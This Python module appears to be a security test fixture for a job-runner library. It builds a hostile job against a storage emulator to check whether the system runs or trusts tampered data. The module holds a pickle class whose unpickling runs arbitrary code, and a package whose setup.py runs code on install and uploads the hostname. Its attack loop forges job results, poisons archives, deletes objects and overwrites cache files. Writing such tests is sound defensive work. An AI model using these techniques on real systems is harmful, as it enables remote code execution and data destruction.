"""A job that turns hostile: it writes into the bucket whatever may be believed, as long as it lives."""

from __future__ import annotations

import io
import pickle
import secrets
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import kinetic_core
from kinetic_core.store.gcs import GcsObjectStore

BUCKET = "test-bucket"


class Evil:
    """What tells that it was unpickled by running `code`."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return exec, (self.code,)


@dataclass(frozen=True)
class Weapon:
    """What one attack is told apart by: `token` in whatever of it is shown, the object `marker` in whatever
    of it is executed.
    """

    token: str
    marker: str

    @classmethod
    def forged(cls) -> Weapon:
        mark = secrets.token_hex(8)
        return cls(f"EVIL-{mark}", f"executed-{mark}")

    @property
    def code(self) -> str:
        """Python that stores the marker, wherever it runs."""
        return (
            "import os, socket, urllib.request as u; "
            f"u.urlopen(os.environ['STORAGE_EMULATOR_HOST'] + '/upload/storage/v1/b/{BUCKET}/o"
            f"?uploadType=media&name={self.marker}', data=socket.gethostname().encode())"
        )

    def package(self, emulator: str) -> str:
        """Store a distribution whose installation runs the code; the requirement that names it."""
        written = io.BytesIO()
        with tarfile.open(fileobj=written, mode="w:gz") as archive:
            for name, text in {
                "setup.py": f"{self.code}\nfrom setuptools import setup; setup(name='evil', version='1')\n",
                "PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1\n",
            }.items():
                member = tarfile.TarInfo(f"evil-1/{name}")
                member.size = len(text)
                archive.addfile(member, io.BytesIO(text.encode()))
        name = f"{self.marker}-package/evil-1.tar.gz"
        GcsObjectStore.at(BUCKET).create_if_absent(name, written.getvalue())
        return f"evil @ {emulator}/download/storage/v1/b/{BUCKET}/o/{name.replace('/', '%2F')}?alt=media"

    def was_executed(self) -> bool:
        return GcsObjectStore.at(BUCKET).find(self.marker) is not None

    def start(
        self, location: str, emulator: str, cache_volume: str, *, destroys: bool
    ) -> kinetic_core.JobHandle:
        """Attack everything below `location`; unless it `destroys`, only plant beside what others store."""
        job = kinetic_core.run(accelerator="cpu", cpu=0.1, timeout=900, cache_volume=cache_volume)(attack)
        evil = pickle.dumps(Evil(self.code))
        return job.run_async(location, self.token, evil, self.package(emulator), destroys)


def attack(location: str, token: str, evil: bytes, package: str, destroys: bool) -> None:
    """Plant whatever may be believed; with `destroys`, replace and delete whatever can be listed, too.

    What was planted is left alone, unless it `destroys`: then of all that was listed nothing is spared.
    """
    import contextlib
    import json
    import os
    import random
    import time
    import urllib.request
    import zipfile
    from http.client import HTTPException
    from io import BytesIO
    from pathlib import Path
    from urllib.parse import quote

    from kinetic_runner import codec, object_names, wire  # type: ignore[import-not-found]

    bucket, _, prefix = location.partition("/")
    base, own = os.environ["STORAGE_EMULATOR_HOST"], os.environ["KINETIC_JOB_ID"]
    planted: set[str] = set()
    doubles: set[str] = set()

    def ask(method: str, path: str, body: bytes | None = None, kind: str = "application/x") -> bytes:
        request = urllib.request.Request(f"{base}{path}", body, {"Content-Type": kind}, method=method)
        try:
            with urllib.request.urlopen(request, timeout=10) as answer:
                return bytes(answer.read())
        except (OSError, HTTPException):  # a pod may lose its network for a while: the attack goes on
            return b""

    def at(name: str) -> str:
        return f"/storage/v1/b/{bucket}/o/{quote(f'{prefix}/{name}', safe='')}"

    def put(name: str, body: bytes, told: dict[str, str] | None = None) -> None:
        """Store it; in another's place only if the bucket is to be destroyed."""
        planted.add(name)
        facts = json.dumps({"name": f"{prefix}/{name}", "metadata": told or {}}).encode()
        parts = [b"--evil\r\nContent-Type: application/json\r\n\r\n", facts]
        parts += [b"\r\n--evil\r\nContent-Type: application/x\r\n\r\n", body, b"\r\n--evil--"]
        condition = "" if destroys else "&ifGenerationMatch=0"
        path = f"/upload/storage/v1/b/{bucket}/o?uploadType=multipart{condition}"
        ask("POST", path, b"".join(parts), "multipart/related; boundary=evil")

    def outcome(job_id: str, *, plain: bool) -> bytes:
        """Of that job: a value of plain data, or a pickle."""
        header = {"protocol": 1, "job_id": job_id, "attempt": 0, "state": "succeeded", "result_type": token}
        if plain:
            return bytes(wire.encode_frame({**header, "codec": "typed"}, codec.encode(token)))
        return bytes(wire.encode_frame({**header, "codec": "pickle"}, {"body": evil}))

    def forged(name: str, content: bytes) -> bytes:
        """It, as somebody would write it who wants to be believed."""
        if name.endswith(".json"):
            with contextlib.suppress(ValueError):
                told = json.loads(content)
                if isinstance(told, dict):
                    lies = {"image_uri", "state", "message", "why", "kind", "type", "host"}
                    return json.dumps({**told, **dict.fromkeys(lies, token)}).encode()
        if name.endswith(".zip"):
            with contextlib.suppress(zipfile.BadZipFile), zipfile.ZipFile(BytesIO(content)) as there:
                fake = BytesIO()
                with zipfile.ZipFile(fake, "w") as archive:
                    for member in there.namelist():
                        archive.writestr(member, f"import pickle; pickle.loads({evil!r})\n")
                return fake.getvalue()
        with contextlib.suppress(wire.FrameError):
            header, parts = wire.decode_frame(content)
            fields = {key: value for key, value in header.items() if key != "parts"}
            fields |= {"state": "succeeded", "codec": "pickle"} if "state" in fields else {}
            return bytes(wire.encode_frame(fields, dict.fromkeys(parts or ["body"], evil)))
        return evil

    def plant_beside(job_id: str) -> None:
        """All that a job, its hosts, its observers or a list might read of it."""
        succeeded = {"state": "succeeded"}
        put(f"jobs/{job_id}/result", outcome(job_id, plain=random.random() < 0.5), succeeded)
        put(f"jobs/{job_id}/attempts/0/outcome", outcome(job_id, plain=True), succeeded)
        put(f"jobs/{job_id}/attempts/1/outcome", outcome(job_id, plain=False), succeeded)
        lie = json.dumps({"message": token, "state": token, "kind": "failed", "used": 1e9, "limit": 1})
        for name in ("lease", "spending", "memory"):
            put(f"jobs/{job_id}/attempts/0/{name}.json", lie.encode())
        put(object_names.end_call(job_id), lie.encode())
        put(object_names.nudge(job_id), json.dumps({"pod": token, "port": 1}).encode())
        for number in range(
            0 if destroys else 1, 3
        ):  # a worker gets its first call before it can be attacked
            put(object_names.call(job_id, number), json.dumps({"environment": {"PATH": token}}).encode())
        if destroys:
            put(f"jobs/{job_id}/requirements.lock", json.dumps({"requirements": [package]}).encode())
            put(f"jobs/{job_id}/attempts/0/claim.json", lie.encode())
            for number in range(2):
                passed = json.dumps({"choice": "passed", "why": token})
                put(f"jobs/{job_id}/choices/{number}", passed.encode())
            for name in ("start", "end", "host-0", "host-1", "stop"):
                put(f"jobs/{job_id}/gang/0/{name}", lie.encode())

    def double(job_id: str) -> None:
        """A job like this one, which nobody has submitted, but which has succeeded."""
        name = f"job-{job_id[:3:-1]}"
        if job_id in doubles:  # whose double is the job that somebody has submitted
            return
        doubles.add(name)
        try:
            handle = json.loads(ask("GET", f"{at(f'jobs/{job_id}/handle.json')}?alt=media"))
        except ValueError:
            return
        copied = {**handle, "job_id": name, "k8s_name": f"kinetic-{name}"}
        put(f"jobs/{name}/handle.json", json.dumps(copied).encode())
        put(f"jobs/{name}/result", outcome(name, plain=True), {"state": "succeeded"})
        entry = {"func_name": "planted", "cluster": "", "created_at": "2026-01-01T00:00:00Z"}
        put(f"index/0-{name}", b"", {**entry, "namespace": handle["namespace"]})

    def plant_in(group_id: str) -> None:
        """All that whoever attaches to a batch, or resumes it, might read of it."""
        note = json.dumps({"type": token, "message": token}).encode()
        for index in range(3):
            put(f"batches/{group_id}/failures/{index:06d}.json", note)
            plant_beside(f"{group_id}-{index}")
        put(f"batches/{group_id}/payload-{'0' * 64}", evil)
        put(f"batches/{group_id}/inputs-{'0' * 64}", evil)

    print("attacking", flush=True)
    while True:
        listed = ask("GET", f"/storage/v1/b/{bucket}/o?prefix={prefix}/&fields=items(name)") or b"{}"
        names = [each["name"].removeprefix(f"{prefix}/") for each in json.loads(listed).get("items", ())]
        names = [name for name in names if own not in name and name not in planted]
        for name in names if destroys else ():
            if random.random() < 0.2:
                ask("DELETE", at(name))
            else:
                put(name, forged(name, ask("GET", f"{at(name)}?alt=media")))
        planted -= {name for name in planted if destroys}
        for kind, owner in {tuple(name.split("/")[:2]) for name in names if name.count("/") > 1}:
            if kind == "jobs":
                plant_beside(owner)
                if owner.startswith("job-"):
                    double(owner)
            elif kind == "batches":
                plant_in(owner)
        for path in Path("/kinetic-cache").rglob("*"):
            with contextlib.suppress(OSError):
                path.write_bytes(b"EVIL" * (path.stat().st_size // 4 + 1))
        time.sleep(0.05)
